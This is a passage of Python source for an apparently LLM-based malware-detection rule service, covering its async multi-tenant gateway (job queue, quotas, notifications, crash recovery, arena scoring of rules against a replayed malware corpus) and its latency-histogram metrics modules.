* **tenancy**: every tenant gets an isolated registry namespace, scan
  service, token-bucket quota (:mod:`repro.gateway.tenants`);
* **job queue**: scan batches and streaming generation feeds become
  :class:`~repro.gateway.jobs.Job` s executed by a bounded asyncio worker
  pool; clients poll, await, or cancel (:mod:`repro.gateway.jobs`);
* **event push**: registry publishes and re-scan deltas are bridged into
  per-tenant async notification streams (:mod:`repro.gateway.notify`), so
  subscribers hear about new rule versions without polling.

Blocking pipeline work (scanning, rule generation) runs on the default
executor, keeping the event loop free to admit requests, serve status and
push notifications while scans saturate threads.

    app = await GatewayApp().start()
    app.register_tenant("acme")
    job = await app.submit_scan("acme", packages)
    job = await app.await_job("acme", job.id)
    await app.shutdown()                      # drains in-flight jobs
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence

from repro.api.session import GenerationSession
from repro.core.config import RuleLLMConfig
from repro.corpus.package import Package
from repro.gateway.jobs import (
    INTERRUPTED,
    QUEUED,
    RUNNING,
    TERMINAL_STATES,
    Job,
    JobQueue,
)
from repro.gateway.metrics import LatencyTracker
from repro.gateway.notify import NotificationHub, Subscription
from repro.obs.metrics import get_registry as _obs_registry
from repro.obs.trace import get_tracer

_JOBS_FINISHED = _obs_registry().counter(
    "repro_gateway_jobs_total",
    "Gateway jobs reaching a terminal state, by kind and state.",
    ("kind", "state"),
)
from repro.gateway.ratelimit import Clock, RateLimited
from repro.gateway.tenants import Tenant, TenantManager, TenantQuota, UnknownTenant
from repro.scanserve.registry import PublishEvent, RulesetRegistry
from repro.scanserve.scheduler import BoundedQueue
from repro.scanserve.service import RescanDelta, ScanService, ScanServiceConfig


@dataclass
class GatewayConfig:
    """Knobs of the gateway."""

    workers: int = 2  # concurrent jobs (each off-loads to an executor thread)
    history_limit: int = 64  # finished jobs kept addressable
    notification_backlog: int = 256  # per-tenant retained notifications
    default_quota: TenantQuota = field(default_factory=TenantQuota)
    auto_register: bool = True  # unknown tenants get the default quota on first use
    model: str = "gpt-4o"  # generation profile for feed jobs
    seed: int = 1633
    feed_capacity: int = 4096  # streaming-ingest buffer per generation feed
    feed_put_timeout: float = 5.0  # backpressure: how long a feed put may block


def _with_ctx(tracer, ctx, fn):
    """Run ``fn`` with ``ctx`` installed as the ambient span context."""
    with tracer.activate(ctx):
        return fn()


def _event_payload(event: PublishEvent) -> dict:
    return {
        "namespace": event.namespace,
        "kind": event.kind,
        "version": event.version.version,
        "label": event.version.label,
        "rule_count": event.version.rule_count,
        "activated": event.activated,
        "previous_version": event.previous_version,
    }


class GatewayApp:
    """Owns the job queue, tenant manager and notification hub."""

    def __init__(
        self,
        config: Optional[GatewayConfig] = None,
        clock: Optional[Clock] = None,
        store=None,
    ) -> None:
        self.config = config or GatewayConfig()
        self.clock = clock or time.time
        #: Optional :class:`repro.store.RuleStore`: job transitions journal
        #: here and each tenant's registry recovers from a per-tenant
        #: substore, so a restarted gateway serves prior versions and
        #: surfaces the jobs the crash interrupted.
        self.store = store
        self.tenants = TenantManager(
            default_quota=self.config.default_quota,
            clock=self.clock,
            service_factory=self._tenant_service if store is not None else None,
        )
        self.jobs = JobQueue(
            workers=self.config.workers,
            history_limit=self.config.history_limit,
            clock=self.clock,
        )
        self.latency = LatencyTracker()
        self.jobs.on_transition = self._on_job_transition
        self.hub = NotificationHub(
            backlog=self.config.notification_backlog, clock=self.clock
        )
        self._feeds: Dict[str, BoundedQueue] = {}  # open generation feeds by job id
        self._arenas: Dict[str, object] = {}  # lazy per-tenant ArenaRunner
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self.interrupted_jobs: List[Job] = []  # recovered at start()

    def _tenant_service(self, name: str) -> ScanService:
        """Store-backed tenant slice: the registry recovers from (and
        journals into) ``<store root>/tenants/<name>``."""
        substore = self.store.substore("tenants", name)
        return ScanService(
            registry=RulesetRegistry.from_store(substore, namespace=name),
            config=ScanServiceConfig(mode="inprocess", recency_window=128),
        )

    # -- lifecycle ------------------------------------------------------------------
    async def start(self) -> "GatewayApp":
        self._loop = asyncio.get_running_loop()
        self.hub.bind(self._loop)
        if self.store is not None:
            self._recover_jobs()
        await self.jobs.start()
        return self

    async def shutdown(self, drain: bool = True, timeout: Optional[float] = None) -> None:
        """Stop accepting work and wind down.

        Open generation feeds are closed first (their jobs proceed to
        generate from what was fed), then the job queue drains in-flight
        jobs (``drain=True``) or cancels everything pending.
        """
        for job_id in list(self._feeds):
            feed = self._feeds.pop(job_id, None)
            if feed is not None:
                feed.close()
        await self.jobs.shutdown(drain=drain, timeout=timeout)

    @property
    def started(self) -> bool:
        return self._loop is not None

    # -- tenancy --------------------------------------------------------------------
    def register_tenant(
        self, name: str, quota: Optional[TenantQuota] = None
    ) -> Tenant:
        """Register a tenant and bridge its registry events into the hub."""
        tenant = self.tenants.register(name, quota)
        token = tenant.registry.subscribe(
            lambda event, t=name: self.hub.publish(t, "publish", _event_payload(event))
        )
        tenant.bridge_tokens.append(token)
        tenant.service.enable_live_rescan(
            on_delta=lambda delta, t=name: self.hub.publish(
                t, "rescan", delta.to_dict()
            )
        )
        return tenant

    def tenant(self, name: str) -> Tenant:
        """Lookup, auto-registering when the config allows it."""
        try:
            return self.tenants.get(name)
        except UnknownTenant:
            if not self.config.auto_register:
                raise
            return self.register_tenant(name)

    def _admit(self, name: str) -> Tenant:
        tenant = self.tenant(name)
        pending = sum(
            1 for job in self.jobs.jobs(tenant=name) if not job.finished
        )
        return self.tenants.admit(name, pending_jobs=pending)

    # -- scan jobs ------------------------------------------------------------------
    async def submit_scan(
        self,
        tenant_name: str,
        packages: Sequence[Package],
        label: str = "",
    ) -> Job:
        """Queue a scan batch against the tenant's active ruleset version.

        Raises :class:`RateLimited` at admission; a missing ruleset fails
        the *job* (the submission itself is valid).
        """
        tenant = self._admit(tenant_name)
        batch = list(packages)
        if not batch:
            raise ValueError("scan batch is empty")
        loop = self._require_loop()
        tracer = get_tracer()

        async def run(job: Job) -> dict:
            with tracer.span_from(job.trace, "job.scan", job=job.id) as span:
                job_ctx = span.context  # explicit hand-off: executor threads

                # don't inherit the loop's contextvars
                def work() -> dict:
                    with tracer.activate(job_ctx):
                        result = tenant.service.scan_batch(batch)
                        return result.to_dict(include_detections=False)

                return await loop.run_in_executor(None, work)

        job = self.jobs.submit("scan", tenant_name, run, label=label)
        job.trace = tracer.carrier()
        return job

    # -- streaming generation feeds ---------------------------------------------------
    async def open_generation(self, tenant_name: str, label: str = "") -> Job:
        """Open a streaming generation feed as a job.

        The job consumes the feed (with backpressure) until
        :meth:`close_generation`, then runs the full stage chain and
        auto-publishes into the tenant's registry — which pushes a
        ``publish`` notification and triggers the tenant's live re-scan.
        """
        tenant = self._admit(tenant_name)
        loop = self._require_loop()
        feed = BoundedQueue(max_items=self.config.feed_capacity)
        session = GenerationSession(
            config=RuleLLMConfig.full(model=self.config.model, seed=self.config.seed),
            registry=tenant.registry,
            shard_label=tenant_name,
        )

        tracer = get_tracer()

        async def run(job: Job) -> dict:
            with tracer.span_from(job.trace, "job.generate", job=job.id) as span:
                job_ctx = span.context
                try:
                    consumed = await loop.run_in_executor(
                        None,
                        lambda: _with_ctx(
                            tracer, job_ctx, lambda: session.consume(feed, batch_size=64)
                        ),
                    )
                    result = await loop.run_in_executor(
                        None,
                        lambda: _with_ctx(
                            tracer,
                            job_ctx,
                            lambda: session.generate(label or job.label or tenant_name),
                        ),
                    )
                finally:
                    feed.close()
                    self._feeds.pop(job.id, None)
            counts = result.rule_set.counts()
            return {
                "consumed": consumed,
                "batches": len(result.batch_sizes),
                "rules": counts,
                "published_version": (
                    result.version.version if result.version is not None else None
                ),
                "summary": result.describe(),
            }

        job = self.jobs.submit("generate", tenant_name, run, label=label)
        job.trace = tracer.carrier()
        self._feeds[job.id] = feed
        return job

    async def feed_generation(
        self, tenant_name: str, job_id: str, packages: Iterable[Package]
    ) -> int:
        """Stream a batch of packages into an open generation feed."""
        self.job(tenant_name, job_id)  # ownership + existence check
        feed = self._feeds.get(job_id)
        if feed is None or feed.closed:
            raise LookupError(f"job {job_id!r} has no open generation feed")
        loop = self._require_loop()
        fed = 0
        for package in packages:
            accepted = await loop.run_in_executor(
                None,
                lambda p=package: feed.put(p, timeout=self.config.feed_put_timeout),
            )
            if not accepted:  # the consumer is that far behind: shed load
                raise RateLimited(
                    f"generation feed {job_id!r} is backpressured",
                    retry_after=self.config.feed_put_timeout,
                )
            fed += 1
        return fed

    async def close_generation(self, tenant_name: str, job_id: str) -> Job:
        """Close the feed; the job proceeds to generation and publish."""
        job = self.job(tenant_name, job_id)
        feed = self._feeds.pop(job_id, None)
        if feed is not None:
            feed.close()
        return job

    # -- arena rounds -----------------------------------------------------------------
    def _arena_runner(self, tenant: Tenant):
        """The tenant's arena runner, built on first use.

        Traffic replays a small seeded corpus (deterministic per gateway
        seed) against whatever version the tenant last published; refeed is
        off — a gateway arena job *measures*, the tenant decides what to
        regenerate.
        """
        runner = self._arenas.get(tenant.name)
        if runner is None:
            from repro.arena import (
                ArenaConfig,
                ArenaRunner,
                ReplayTraffic,
                TrafficConfig,
            )
            from repro.corpus import DatasetConfig, build_dataset

            dataset = build_dataset(
                DatasetConfig(scale=0.01, seed=self.config.seed)
            )
            traffic = ReplayTraffic(dataset.malware, TrafficConfig(
                seed=self.config.seed,
                packages_per_round=8,
                obfuscation_base=0.0,
                obfuscation_step=0.25,
            ))
            runner = ArenaRunner(
                tenant.service,
                traffic,
                config=ArenaConfig(refeed=False, seed=self.config.seed),
            )
            self._arenas[tenant.name] = runner
        return runner

    async def submit_arena(
        self, tenant_name: str, rounds: int = 1, label: str = ""
    ) -> Job:
        """Queue arena rounds against the tenant's active ruleset version.

        Each round replays seeded traffic, scores every rule and folds the
        verdicts into the tenant's leaderboard; the job result carries the
        round summaries and the current standings.  A tenant without a
        published version fails the *job*, not the submission.
        """
        tenant = self._admit(tenant_name)
        count = max(1, int(rounds))
        loop = self._require_loop()
        runner = self._arena_runner(tenant)
        tracer = get_tracer()

        async def run(job: Job) -> dict:
            with tracer.span_from(job.trace, "job.arena", job=job.id) as span:
                job_ctx = span.context
                return await loop.run_in_executor(
                    None, lambda: _with_ctx(tracer, job_ctx, work)
                )

        def work() -> dict:
            records = [runner.run_round() for _ in range(count)]
            return {
                "rounds": [
                    {
                        "index": record.index,
                        "version": record.version,
                        "packages": record.packages,
                        "malicious": record.malicious,
                        "retired_rules": record.retired_rules,
                        "actions": len(record.actions),
                    }
                    for record in records
                ],
                "leaderboard": [
                    entry.to_dict()
                    for entry in runner.leaderboard.rankings(limit=10)
                ],
                "summary": records[-1].describe(),
            }

        job = self.jobs.submit("arena", tenant_name, run, label=label)
        job.trace = tracer.carrier()
        return job

    # -- job access -------------------------------------------------------------------
    def job(self, tenant_name: str, job_id: str) -> Job:
        """A tenant's job; jobs of other tenants are indistinguishable from
        missing ones (no cross-tenant existence probing)."""
        job = self.jobs.get(job_id)
        if job.tenant != tenant_name:
            raise LookupError(f"unknown job {job_id!r}")
        return job

    def tenant_jobs(self, tenant_name: str) -> List[Job]:
        return self.jobs.jobs(tenant=tenant_name)

    async def await_job(
        self, tenant_name: str, job_id: str, timeout: Optional[float] = None
    ) -> Job:
        self.job(tenant_name, job_id)
        return await self.jobs.wait(job_id, timeout=timeout)

    def cancel_job(self, tenant_name: str, job_id: str) -> Job:
        job = self.job(tenant_name, job_id)
        feed = self._feeds.pop(job_id, None)
        if feed is not None:
            feed.close()
        self.jobs.cancel(job_id)
        return job

    # -- notifications ----------------------------------------------------------------
    def subscribe(self, tenant_name: str, from_start: bool = False) -> Subscription:
        self.tenant(tenant_name)
        return self.hub.subscribe(tenant_name, from_start=from_start)

    async def wait_notifications(
        self, tenant_name: str, after_seq: int = 0, timeout: float = 5.0
    ):
        self.tenant(tenant_name)
        return await self.hub.wait_for(tenant_name, after_seq, timeout)

    # -- durability -------------------------------------------------------------------
    def _on_job_transition(self, job: Job, state: str) -> None:
        """Journal every job transition and feed the latency histograms.

        Runs synchronously inside the queue's state changes: the journal
        record is durable before any client can observe the new state.
        """
        if state in TERMINAL_STATES:
            _JOBS_FINISHED.inc(kind=job.kind, state=state)
            if job.seconds is not None:
                self.latency.observe(job.tenant, job.kind, job.seconds)
        if self.store is None:
            return
        record_type = {QUEUED: "job-submitted", RUNNING: "job-started"}.get(
            state, "job-finished"
        )
        self.store.journal.append(record_type, self._job_record(job))

    @staticmethod
    def _job_record(job: Job) -> dict:
        return {
            "id": job.id,
            "tenant": job.tenant,
            "kind": job.kind,
            "label": job.label,
            "state": job.state,
            "error": job.error,
            "created_at": job.created_at,
            "started_at": job.started_at,
            "finished_at": job.finished_at,
        }

    def _recover_jobs(self) -> None:
        """Surface the prior process's non-terminal jobs as ``interrupted``.

        Handlers are closures over live sessions and feeds — they cannot be
        replayed from a journal — so a job the crash caught mid-flight is
        marked terminal with an explicit state instead of silently
        vanishing.  The marking itself is journaled, which makes recovery
        idempotent across repeated restarts.
        """
        latest: Dict[str, dict] = {}
        for record in self.store.journal.replay():
            if record.type.startswith("job-"):
                data = record.data
                if data.get("id"):
                    latest[str(data["id"])] = data
        restored: List[Job] = []
        for job_id, data in latest.items():
            if data.get("state") in TERMINAL_STATES:
                continue
            job = Job(
                id=job_id,
                tenant=str(data.get("tenant", "")),
                kind=str(data.get("kind", "")),
                label=str(data.get("label", "")),
                state=INTERRUPTED,
                error="interrupted: gateway restarted mid-job",
                created_at=float(data.get("created_at", 0.0)),
                started_at=data.get("started_at"),
                finished_at=self.clock(),
            )
            restored.append(job)
            self.store.journal.append("job-finished", self._job_record(job))
        if restored:
            self.jobs.restore(restored)
        self.interrupted_jobs = restored

    # -- introspection ----------------------------------------------------------------
    def metrics(self) -> dict:
        """Operational snapshot: global job counts plus per-tenant depth.

        Everything here is already tracked (job states, token buckets,
        rejection counters) — this just folds it into one scrape-friendly
        document for dashboards and the ``GET /metrics`` endpoint.
        """
        tenants = []
        for tenant in self.tenants.tenants():
            tenant_jobs = self.jobs.jobs(tenant=tenant.name)
            tenants.append({
                "name": tenant.name,
                "queue_depth": sum(1 for j in tenant_jobs if j.state == QUEUED),
                "running": sum(1 for j in tenant_jobs if j.state == RUNNING),
                "terminal": sum(1 for j in tenant_jobs if j.finished),
                "jobs_submitted": tenant.jobs_submitted,
                "quota_rejections": tenant.rejected,
                "registry_versions": tenant.registry.versions(),
                "active_version": tenant.registry.current_version(),
                "latency": self.latency.tenant_dict(tenant.name),
            })
        return {
            "jobs": self.jobs.counts(),
            "tenants": tenants,
            "open_feeds": len(self._feeds),
            "accepting": self.jobs.accepting,
            "interrupted_jobs": len(self.interrupted_jobs),
        }

    def trace(self, trace_id: str) -> Optional[dict]:
        """Spans of one trace from the process tracer's ring buffer, or
        ``None`` when the id is unknown (or tracing is off)."""
        spans = get_tracer().spans(trace_id=trace_id)
        if not spans:
            return None
        return {"trace_id": trace_id, "spans": spans}

    def to_dict(self) -> dict:
        return {
            "tenants": [tenant.to_dict() for tenant in self.tenants.tenants()],
            "jobs": self.jobs.counts(),
            "open_feeds": len(self._feeds),
            "accepting": self.jobs.accepting,
        }

    def _require_loop(self) -> asyncio.AbstractEventLoop:
        if self._loop is None:
            raise RuntimeError("gateway not started; await GatewayApp.start() first")
        return self._loop


__all__ = [
    "GatewayApp",
    "GatewayConfig",
    "RateLimited",
    "RescanDelta",
    "TenantQuota",
    "UnknownTenant",
]
