"""``repro.gateway`` — the async multi-tenant scan/generation gateway.

The serving front end over :mod:`repro.scanserve` and :mod:`repro.api`:
a :class:`GatewayApp` owns an async job queue (scan batches, streaming
generation feeds), a tenant manager with per-tenant token-bucket quotas
and isolated registry namespaces, and a notification hub that pushes
registry publishes and re-scan deltas to subscribers instead of making
them poll.  ``rulellm serve`` exposes it over HTTP; ``rulellm client``
talks to it.
"""

from repro.gateway.app import GatewayApp, GatewayConfig
from repro.gateway.http import (
    GatewayClient,
    GatewayError,
    GatewayHttpServer,
    ThreadedGateway,
    package_from_wire,
    package_to_wire,
)
from repro.gateway.jobs import (
    CANCELLED,
    DONE,
    FAILED,
    QUEUED,
    RUNNING,
    TERMINAL_STATES,
    Job,
    JobQueue,
)
from repro.gateway.notify import Notification, NotificationHub, Subscription
from repro.gateway.ratelimit import (
    Backoff,
    RateLimited,
    TokenBucket,
    retry_sync,
    retry_with_backoff,
)
from repro.gateway.tenants import (
    Tenant,
    TenantManager,
    TenantQuota,
    UnknownTenant,
)

__all__ = [
    "Backoff",
    "CANCELLED",
    "DONE",
    "FAILED",
    "GatewayApp",
    "GatewayClient",
    "GatewayConfig",
    "GatewayError",
    "GatewayHttpServer",
    "Job",
    "JobQueue",
    "Notification",
    "NotificationHub",
    "QUEUED",
    "RUNNING",
    "RateLimited",
    "Subscription",
    "TERMINAL_STATES",
    "Tenant",
    "TenantManager",
    "TenantQuota",
    "ThreadedGateway",
    "TokenBucket",
    "UnknownTenant",
    "package_from_wire",
    "package_to_wire",
    "retry_sync",
    "retry_with_backoff",
]
