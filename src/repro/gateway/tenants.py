"""Multi-tenancy: quotas, token buckets, and per-tenant registry namespaces.

Each tenant the gateway admits owns a full vertical slice of the serving
stack: a :class:`~repro.scanserve.registry.RulesetRegistry` carrying the
tenant's name as its ``namespace`` (so every
:class:`~repro.scanserve.registry.PublishEvent` is attributable), a
:class:`~repro.scanserve.service.ScanService` bound to that registry, and
a :class:`~repro.gateway.ratelimit.TokenBucket` sized by the tenant's
:class:`TenantQuota`.  Isolation therefore falls out of the existing
registry versioning — tenant A's publishes are versions of *A's* registry
and can never trigger B's re-scans or notifications — rather than from
filtering a shared namespace.

:meth:`TenantManager.admit` is the single admission gate: it charges the
token bucket and enforces the pending-job ceiling, raising
:class:`~repro.gateway.ratelimit.RateLimited` (with ``retry_after``) that
the HTTP layer maps to a 429.
"""

from __future__ import annotations

import re
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.gateway.ratelimit import Clock, RateLimited, TokenBucket
from repro.obs.metrics import get_registry as _obs_registry

_RATE_LIMITED = _obs_registry().counter(
    "repro_gateway_rate_limited_total",
    "Submissions rejected at admission, by tenant and reason.",
    ("tenant", "reason"),
)
from repro.scanserve.registry import RulesetRegistry
from repro.scanserve.service import ScanService, ScanServiceConfig

_TENANT_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,63}$")


class UnknownTenant(LookupError):
    """Lookup of a tenant that was never registered."""


@dataclass(frozen=True)
class TenantQuota:
    """Admission limits for one tenant.

    ``capacity`` is the burst the token bucket allows, ``refill_per_second``
    the sustained submission rate, ``max_pending_jobs`` the ceiling on
    queued+running jobs (protects the job queue from one tenant flooding
    it even at a generous rate).
    """

    capacity: float = 8.0
    refill_per_second: float = 4.0
    max_pending_jobs: int = 32

    def to_dict(self) -> dict:
        return {
            "capacity": self.capacity,
            "refill_per_second": self.refill_per_second,
            "max_pending_jobs": self.max_pending_jobs,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "TenantQuota":
        return cls(
            capacity=float(data.get("capacity", cls.capacity)),
            refill_per_second=float(
                data.get("refill_per_second", cls.refill_per_second)
            ),
            max_pending_jobs=int(data.get("max_pending_jobs", cls.max_pending_jobs)),
        )


@dataclass
class Tenant:
    """One tenant's slice of the gateway: namespace, quota, counters."""

    name: str
    quota: TenantQuota
    service: ScanService
    bucket: TokenBucket
    created_at: float = 0.0
    jobs_submitted: int = 0
    rejected: int = 0
    bridge_tokens: List[int] = field(default_factory=list)  # registry subscriptions

    @property
    def registry(self) -> RulesetRegistry:
        return self.service.registry

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "quota": self.quota.to_dict(),
            "created_at": self.created_at,
            "jobs_submitted": self.jobs_submitted,
            "rejected": self.rejected,
            "registry_versions": self.registry.versions(),
            "active_version": self.registry.current_version(),
        }


class TenantManager:
    """Registration, lookup and admission control for gateway tenants."""

    def __init__(
        self,
        default_quota: Optional[TenantQuota] = None,
        clock: Optional[Clock] = None,
        service_factory: Optional[Callable[[str], ScanService]] = None,
    ) -> None:
        self.default_quota = default_quota or TenantQuota()
        self._clock = clock or time.monotonic
        self._service_factory = service_factory or self._default_service
        self._tenants: Dict[str, Tenant] = {}
        self._lock = threading.Lock()

    @staticmethod
    def _default_service(name: str) -> ScanService:
        # in-process workers: gateway jobs already run on executor threads,
        # and per-request process pools would dominate small batches
        return ScanService(
            registry=RulesetRegistry(namespace=name),
            config=ScanServiceConfig(mode="inprocess", recency_window=128),
        )

    # -- registration ---------------------------------------------------------------
    def register(self, name: str, quota: Optional[TenantQuota] = None) -> Tenant:
        if not _TENANT_NAME.match(name or ""):
            raise ValueError(
                f"invalid tenant name {name!r} (alphanumeric, '_', '-', '.', "
                "max 64 chars)"
            )
        quota = quota or self.default_quota
        with self._lock:
            if name in self._tenants:
                raise ValueError(f"tenant {name!r} already registered")
            tenant = Tenant(
                name=name,
                quota=quota,
                service=self._service_factory(name),
                bucket=TokenBucket(
                    capacity=quota.capacity,
                    refill_per_second=quota.refill_per_second,
                    clock=self._clock,
                ),
                created_at=self._clock(),
            )
            self._tenants[name] = tenant
            return tenant

    def get(self, name: str) -> Tenant:
        with self._lock:
            try:
                return self._tenants[name]
            except KeyError:
                raise UnknownTenant(f"unknown tenant {name!r}") from None

    def get_or_register(self, name: str) -> Tenant:
        with self._lock:
            existing = self._tenants.get(name)
        if existing is not None:
            return existing
        try:
            return self.register(name)
        except ValueError as exc:
            if "already registered" in str(exc):  # lost a registration race
                return self.get(name)
            raise

    # -- admission ------------------------------------------------------------------
    def admit(self, name: str, pending_jobs: int = 0, cost: float = 1.0) -> Tenant:
        """Charge one submission against the tenant's quota.

        ``pending_jobs`` is the tenant's current queued+running count (the
        caller owns the job queue).  Raises :class:`RateLimited` with a
        concrete ``retry_after`` on rejection.
        """
        tenant = self.get(name)
        if pending_jobs >= tenant.quota.max_pending_jobs:
            tenant.rejected += 1
            _RATE_LIMITED.inc(tenant=name, reason="pending")
            # the soonest a slot can open is one job finishing; the refill
            # interval is the only time scale the quota defines
            refill = tenant.quota.refill_per_second
            raise RateLimited(
                f"tenant {name!r} has {pending_jobs} pending jobs "
                f"(max {tenant.quota.max_pending_jobs})",
                retry_after=1.0 / refill if refill > 0 else 1.0,
            )
        granted, retry_after = tenant.bucket.try_acquire(cost)
        if not granted:
            tenant.rejected += 1
            _RATE_LIMITED.inc(tenant=name, reason="quota")
            raise RateLimited(
                f"tenant {name!r} over rate quota "
                f"({tenant.quota.capacity:g} burst, "
                f"{tenant.quota.refill_per_second:g}/s)",
                retry_after=retry_after,
            )
        tenant.jobs_submitted += 1
        return tenant

    # -- introspection --------------------------------------------------------------
    def names(self) -> List[str]:
        with self._lock:
            return sorted(self._tenants)

    def tenants(self) -> List[Tenant]:
        with self._lock:
            return [self._tenants[name] for name in sorted(self._tenants)]

    def __contains__(self, name: str) -> bool:
        with self._lock:
            return name in self._tenants

    def __len__(self) -> int:
        with self._lock:
            return len(self._tenants)
