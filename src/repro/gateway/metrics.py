"""Latency histograms for the gateway's ``/metrics`` document.

Fixed log-spaced buckets (powers of two over a 1 ms base) rather than
adaptive ones: every scrape of every tenant reports the same bucket
boundaries, so dashboards can aggregate across tenants and across time
without re-binning.  Quantiles (p50/p99) are estimated by linear
interpolation inside the winning bucket — the standard Prometheus-style
estimate, biased at most one bucket width, which log spacing keeps
proportional to the value itself.

The gateway keeps one :class:`LatencyHistogram` per ``(tenant, job kind)``
and feeds it from the job queue's transition observer, so *every* finished
job — done, failed, or cancelled mid-run — lands in exactly one histogram.
"""

from __future__ import annotations

import bisect
import threading
from typing import Optional, Sequence

#: 1ms * 2**k for k in 0..16 — ~1ms to ~65s, then +Inf.
DEFAULT_BUCKETS: tuple[float, ...] = tuple(0.001 * (2 ** k) for k in range(17))


class LatencyHistogram:
    """Fixed-bucket latency histogram with interpolated quantiles."""

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        bounds = sorted(float(b) for b in buckets)
        if not bounds or any(b <= 0 for b in bounds):
            raise ValueError("bucket bounds must be positive")
        self.bounds = bounds  # upper bounds; an implicit +Inf bucket follows
        self._counts = [0] * (len(bounds) + 1)
        self._total = 0
        self._sum = 0.0
        self._max = 0.0
        self._lock = threading.Lock()

    def observe(self, seconds: float) -> None:
        seconds = max(0.0, float(seconds))
        index = bisect.bisect_left(self.bounds, seconds)
        with self._lock:
            self._counts[index] += 1
            self._total += 1
            self._sum += seconds
            if seconds > self._max:
                self._max = seconds

    @property
    def count(self) -> int:
        with self._lock:
            return self._total

    def quantile(self, q: float) -> Optional[float]:
        """Interpolated quantile estimate; ``None`` with no observations."""
        if not 0.0 <= q <= 1.0:
            raise ValueError("q must be in [0, 1]")
        with self._lock:
            if self._total == 0:
                return None
            rank = q * self._total
            seen = 0.0
            for index, count in enumerate(self._counts):
                if count == 0:
                    continue
                if seen + count >= rank:
                    upper = (
                        self.bounds[index]
                        if index < len(self.bounds)
                        else self._max  # +Inf bucket: cap at the observed max
                    )
                    lower = self.bounds[index - 1] if index > 0 else 0.0
                    fraction = (rank - seen) / count
                    return lower + (upper - lower) * min(1.0, max(0.0, fraction))
                seen += count
            return self._max

    def to_dict(self) -> dict:
        """Scrape-friendly snapshot: buckets, totals and p50/p99."""
        with self._lock:
            counts = list(self._counts)
            total = self._total
            total_sum = self._sum
            observed_max = self._max
        histogram = {
            "count": total,
            "sum_seconds": round(total_sum, 6),
            "max_seconds": round(observed_max, 6),
            "mean_seconds": round(total_sum / total, 6) if total else None,
            "buckets": [
                {"le": self.bounds[i], "count": counts[i]}
                for i in range(len(self.bounds))
                if counts[i]
            ],
            "overflow": counts[-1],
        }
        histogram["p50_seconds"] = _rounded(self.quantile(0.50))
        histogram["p99_seconds"] = _rounded(self.quantile(0.99))
        return histogram


def _rounded(value: Optional[float]) -> Optional[float]:
    return round(value, 6) if value is not None else None


class LatencyTracker:
    """Per-``(tenant, kind)`` histogram registry, shared bucket layout."""

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        self.buckets = tuple(buckets)
        self._histograms: dict[tuple[str, str], LatencyHistogram] = {}
        self._lock = threading.Lock()

    def observe(self, tenant: str, kind: str, seconds: float) -> None:
        key = (tenant, kind)
        with self._lock:
            histogram = self._histograms.get(key)
            if histogram is None:
                histogram = self._histograms[key] = LatencyHistogram(self.buckets)
        histogram.observe(seconds)

    def tenant_dict(self, tenant: str) -> dict:
        """``{kind: histogram snapshot}`` for one tenant."""
        with self._lock:
            keys = [key for key in self._histograms if key[0] == tenant]
        return {kind: self._histograms[(t, kind)].to_dict() for t, kind in keys}


__all__ = ["DEFAULT_BUCKETS", "LatencyHistogram", "LatencyTracker"]
