"""Latency histograms for the gateway's ``/metrics`` document.

The histogram math now lives in :mod:`repro.obs.metrics`
(:class:`~repro.obs.metrics.HistogramChild`); this module is a facade
that keeps the gateway's historical API and — critically — the exact
JSON shape of its ``/metrics`` payload, while mirroring every
observation into the process-wide registry as
``repro_gateway_job_seconds{tenant,kind}`` so the same data is
scrapeable in Prometheus text format.

Fixed log-spaced buckets (powers of two over a 1 ms base) rather than
adaptive ones: every scrape of every tenant reports the same bucket
boundaries, so dashboards can aggregate across tenants and across time
without re-binning.  Quantiles (p50/p99) are estimated by linear
interpolation inside the winning bucket — the standard Prometheus-style
estimate, biased at most one bucket width, which log spacing keeps
proportional to the value itself.

The gateway keeps one :class:`LatencyHistogram` per ``(tenant, job kind)``
and feeds it from the job queue's transition observer, so *every* finished
job — done, failed, or cancelled mid-run — lands in exactly one histogram.
"""

from __future__ import annotations

import threading
from typing import Optional, Sequence

from repro.obs.metrics import DEFAULT_BUCKETS, HistogramChild, get_registry


class LatencyHistogram(HistogramChild):
    """Fixed-bucket latency histogram with interpolated quantiles."""

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        super().__init__(buckets)

    def to_dict(self) -> dict:
        """Scrape-friendly snapshot: buckets, totals and p50/p99."""
        counts, total, total_sum, observed_max = self.snapshot()
        histogram = {
            "count": total,
            "sum_seconds": round(total_sum, 6),
            "max_seconds": round(observed_max, 6),
            "mean_seconds": round(total_sum / total, 6) if total else None,
            "buckets": [
                {"le": self.bounds[i], "count": counts[i]}
                for i in range(len(self.bounds))
                if counts[i]
            ],
            "overflow": counts[-1],
        }
        histogram["p50_seconds"] = _rounded(self.quantile(0.50))
        histogram["p99_seconds"] = _rounded(self.quantile(0.99))
        return histogram


def _rounded(value: Optional[float]) -> Optional[float]:
    return round(value, 6) if value is not None else None


class LatencyTracker:
    """Per-``(tenant, kind)`` histogram registry, shared bucket layout.

    Each tracker owns its histograms (one gateway app == one tracker, so
    the JSON payload stays isolated per app even under test churn), and
    mirrors observations into the global
    ``repro_gateway_job_seconds{tenant,kind}`` family for exposition.
    """

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        self.buckets = tuple(buckets)
        self._histograms: dict[tuple[str, str], LatencyHistogram] = {}
        self._lock = threading.Lock()
        self._mirror = get_registry().histogram(
            "repro_gateway_job_seconds",
            "Gateway job latency by tenant and job kind.",
            ("tenant", "kind"),
            buckets=self.buckets,
        )

    def observe(self, tenant: str, kind: str, seconds: float) -> None:
        key = (tenant, kind)
        with self._lock:
            histogram = self._histograms.get(key)
            if histogram is None:
                histogram = self._histograms[key] = LatencyHistogram(self.buckets)
        histogram.observe(seconds)
        self._mirror.observe(seconds, tenant=tenant, kind=kind)

    def tenant_dict(self, tenant: str) -> dict:
        """``{kind: histogram snapshot}`` for one tenant."""
        with self._lock:
            keys = [key for key in self._histograms if key[0] == tenant]
        return {kind: self._histograms[(t, kind)].to_dict() for t, kind in keys}


